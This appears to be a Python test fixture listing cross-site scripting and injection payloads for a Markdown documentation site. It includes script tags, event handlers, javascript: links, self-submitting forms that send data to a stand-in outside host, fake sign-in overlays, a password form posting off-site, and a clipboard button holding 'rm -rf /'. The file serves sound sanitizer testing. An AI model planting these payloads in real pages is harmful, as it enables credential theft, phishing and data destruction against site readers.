# Requests whose pages run, load, cover or ask something in the browser of who reads them: by their
# text, by the place where they stand, by Markdown of other extensions. Those that
# tests/support/payloads.py lists are taken from there, where they do something untouched.
# Must not know: how they are built.
"""List payloads in the text of pages."""

from __future__ import annotations

from payloads.payload import (
    AT,
    ATTACKS,
    FLOWS,
    OURS,
    OUTSIDE_HOST,
    PAGE,
    RUN,
    Live,
    Payload,
    Proof,
    has,
    lesson,
    loads,
    script,
)
from support.payloads import PAYLOADS as KNOWN

SCRIPT = f"<script>{RUN}</script>"
ERROR = f"<img src=none onerror={RUN}>"
ASK = f"{OUTSIDE_HOST}/@SLUG@"

ROW = (
    lesson("script in a page", FLOWS, SCRIPT, script()),
    lesson("picture that fails", FLOWS, ERROR, script()),
    lesson("link to a script", FLOWS, f"[words](javascript:{RUN})", script()),
    lesson(
        "frame with a document of its own", FLOWS,
        "<iframe srcdoc='<script>parent.pwn(@ID@)</script>'></iframe>", script(),
    ),
    lesson(
        "blank that is none", ATTACKS, f'<span title=\u00a0"x tabindex=1 autofocus onfocus={RUN} y">a</span>',
        script(),
    ),
    lesson(
        "id of a heading in the contents", ATTACKS,
        f"## Head {{ id='x\" tabindex=1 autofocus onfocus=\"{RUN}' }}\n\ntext", script(),
    ),
    Payload(
        name="heading with a script in code", source=ATTACKS, proofs=(script(),),
        files={PAGE: f"# A `</title>{SCRIPT}`\n\nWords.\n"},
    ),
    Payload(
        name="heading with a script in entities", source=ATTACKS, proofs=(script(),),
        files={PAGE: f"# A &lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;\n\nWords.\n"},
    ),
)  # fmt: skip

RUNNING = (
    "script in upper case", "script in svg", "script behind an empty comment",
    "image that fails in Markdown", "image with an odd quote", "image with a line break in its tag",
    "attribute list on a heading", "tag in a heading",
    "link to a script in entities", "link to a script with a tab", "link to a script by reference",
    "link in svg", "svg that loads", "frame to a script", "form that runs", "input with focus",
    "details that open", "video that fails", "body", "animation that ends", "noscript",
    "leaf that makes a comment", "events with blanks", "footnote", "admonition title", "cell of a table",
    "handler in a formula",
)  # fmt: skip
LOADING = (
    "script with a source", "picture that loads", "frame", "stylesheet by link", "style",
    "style attribute that loads", "fill that loads",
)  # fmt: skip
REUSED = tuple(
    lesson(f"known {name}", "tests/support/payloads.py", words.replace("pwn(1)", RUN), script() if name in RUNNING else loads())
    for name, words in KNOWN
    if name in (*RUNNING, *LOADING)
)  # fmt: skip

ASKING = tuple(
    lesson(f"page that asks by {name}", OURS, words, loads())
    for name, words in (
        ("a picture", f"![x]({ASK}.png)"),
        ("a set of pictures", f'<img srcset="{ASK}.png 1x, {ASK}-2.png 2x" src="">'),
        ("a picture of a picture", f'<picture><source srcset="{ASK}.webp"><img src="x.png"></picture>'),
        ("a poster", f'<video poster="{ASK}.png"></video>'),
        ("a sound", f'<audio src="{ASK}.mp3" preload="auto"></audio>'),
        ("a track", f'<video><source src="{ASK}.mp4"></video>'),
        ("a button", f'<input type="image" src="{ASK}.png">'),
        ("a background of a table", f'<table background="{ASK}.png"><tr><td>x</td></tr></table>'),
        ("a picture in a drawing", f'<svg><image href="{ASK}.png" width="9" height="9"/></svg>'),
        ("an import of an inline style", f"<style>@import '{ASK}.css';</style>"),
        ("a font", f"<style>@font-face {{ font-family: q; src: url({ASK}) }} p {{ font-family: q }}</style>"),
        ("a list's mark", f'<ul style="list-style-image: url({ASK}.png)"><li>x</li></ul>'),
        ("a link that is loaded before", f'<link rel="preload" as="image" href="{ASK}.png">'),
        ("a module", f'<script type="module">import "{ASK}.js"</script>'),
        ("a refresh", f'<meta http-equiv="refresh" content="0; url={ASK}">'),
        ("a form that sends itself", f'<form action="{ASK}"><input name=q></form><script>document.forms[document.forms.length-1].submit()</script>'),
    )
)  # fmt: skip

HOLDING = tuple(
    lesson(f"page that holds {name}", OURS, words, has(f"article {selector}"))
    for name, words, selector in (
        ("a form", f'<form action="{ASK}"><input type="password" name="password"></form>', "form"),
        ("a base", f'<base href="{ASK}/">', "base"),
        ("a ping", f'<a href="#x" ping="{ASK}">x</a>', "a[ping]"),
        ("an early meeting", f'<link rel="preconnect" href="{ASK}">', "link"),
        ("a frame of another host", f'<iframe src="{ASK}"></iframe>', "iframe"),
        ("a link to a page in data", "<a href='data:text/html,<b>x</b>'>x</a>", "a[href^='data:']"),
        ("a cover", '<div style="position:fixed;inset:0;z-index:99;background:#fff">Sign in</div>', "div[style*=fixed]"),
        ("a dialog", "<dialog open>Sign in again</dialog>", "dialog"),
        ("a popover", '<div popover id="p">x</div>', "div[popover]"),
        ("text to copy", '<button data-clipboard-text="rm -rf /">x</button>', "[data-clipboard-text]"),
        ("a part of the theme", '<div data-md-component="announce"><p>Moved</p></div>', "[data-md-component]"),
        ("a byline of ours", '<div class="pl-byline">By Ana Reyes</div>', ":scope > .pl-byline, p ~ .pl-byline"),
        ("text to edit", "<p contenteditable>x</p>", "[contenteditable]"),
        ("a portal out of its frame", f'<a target="_top" href="{ASK}">x</a><object data="{ASK}"></object>', "object"),
    )
)  # fmt: skip

PLACES = tuple(
    Payload(
        name=f"script {name}", source=source, files={path: f"# Mine\n\n{SCRIPT}\n"}, alone=alone,
        proofs=(script(at),),
    )
    for name, source, path, at, alone in (
        ("on the home page", ATTACKS, "docs/index.md", "", True),
        ("on a page beside", ATTACKS, "docs/about.md", "about/", False),
        ("on the page of a topic", ATTACKS, "docs/lessons/u/index.md", "lessons/u/", False),
        ("on the page of trails", ATTACKS, "docs/trails/index.md", "trails/", False),
        ("on a trail", ATTACKS, "docs/trails/t.md", "trails/t/", False),
        ("on a gathering", ATTACKS, "docs/gatherings/2026-01-01-g.md", "gatherings/2026-01-01-g/", False),
        ("in a note", OURS, "docs/notes/n.md", "notes/n/", False),
        ("in a profile", OURS, "docs/people/mal.md", "people/mal/", False),
        ("on the page of attribution", ATTACKS, "docs/attribution.md", "attribution/", False),
        ("on another's page", ATTACKS, "docs/people/ana-reyes/index.md", "people/ana-reyes/", False),
        ("in another ending", OURS, "docs/lessons/v/a.markdown", "lessons/v/a/", False),
        ("in a third ending", OURS, "docs/lessons/v/b.mkd", "lessons/v/b/", False),
        ("on the page for lost readers", OURS, "docs/404.md", "404/", False),
    )
)  # fmt: skip

BLOCKS = (
    lesson("block that is a script", OURS, f"/// html | script\n{RUN}\n///", script(), base="blocks"),
    lesson(
        "block that is a picture", OURS, f"/// html | img[src=none onerror='{RUN}']\n///", script(),
        base="blocks",
    ),
    lesson(
        "block that is a frame", OURS, f"/// html | iframe[src='{ASK}']\n///", loads(), base="blocks"
    ),
    lesson(
        "block with an attribute", OURS,
        f"/// details | x\n    open: true\n    attrs: {{ontoggle: '{RUN}'}}\nwords\n///", script(),
        base="blocks",
    ),
    lesson(
        "attributes on an emoji", OURS, f':smile:{{ onmouseover="{RUN}" }}', script(), base="theme"
    ),
    lesson("title of a tab", OURS, f'=== "{ERROR}"\n    words', script(), base="marks"),
    lesson("label of progress", OURS, f'[=50% "{ERROR}"]', script(), base="marks"),
    lesson("key with a handler", OURS, f'++ctrl++{{ onclick="{RUN}" }}', script(), base="marks"),
    lesson("mark of a critic", OURS, f"{{++ {ERROR} ++}}", script(), base="marks"),
    lesson(
        "code in a line with a handler", OURS, f'`#!python x = 1`{{ onclick="{RUN}" }}', script(),
        base="marks",
    ),
    lesson("task with a handler", OURS, f"- [ ] a {ERROR}", script(), base="marks"),
    lesson(
        "address that becomes a link", OURS, f'<https://a.test.org/>{{ onmouseover="{RUN}" }}', script(),
        base="marks",
    ),
    lesson(
        "diagram that loads its script", ATTACKS,
        '<pre class="mermaid"><code>graph LR; A--&gt;B</code></pre>',
        Proof(Live.LOADS, AT, "https://unpkg.com"),
    ),
)  # fmt: skip
PAYLOADS = (*ROW, *REUSED, *ASKING, *HOLDING, *PLACES, *BLOCKS)
